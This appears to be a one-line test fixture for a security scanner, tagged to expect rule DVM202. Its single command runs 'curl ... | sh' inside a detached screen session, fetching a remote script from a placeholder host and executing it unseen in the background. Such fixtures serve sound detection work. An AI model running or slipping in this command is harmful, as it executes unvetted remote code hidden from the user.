# expect: DVM202
screen -dm sh -c 'curl -fsSL https://example.org/i.sh | sh'
